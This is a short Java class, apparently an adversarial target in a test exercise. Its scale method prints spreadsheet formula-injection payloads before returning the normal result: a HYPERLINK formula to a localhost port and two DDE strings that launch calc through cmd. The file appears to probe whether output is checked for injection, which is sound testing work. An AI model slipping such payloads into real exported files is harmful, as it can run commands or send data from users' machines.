package exercise.target;

/** Prints what a spreadsheet would act on. */
public final class Attack extends Target.Honest {
    @Override
    public double[] scale(double[] x) {
        System.out.println("=HYPERLINK(\"http://127.0.0.1:${port}/\",\"9 of 9\")");
        System.out.println("+cmd|' /C calc'!A0");
        System.out.println("@SUM(1+1)*cmd|' /C calc'!A0");
        return super.scale(x);
    }
}
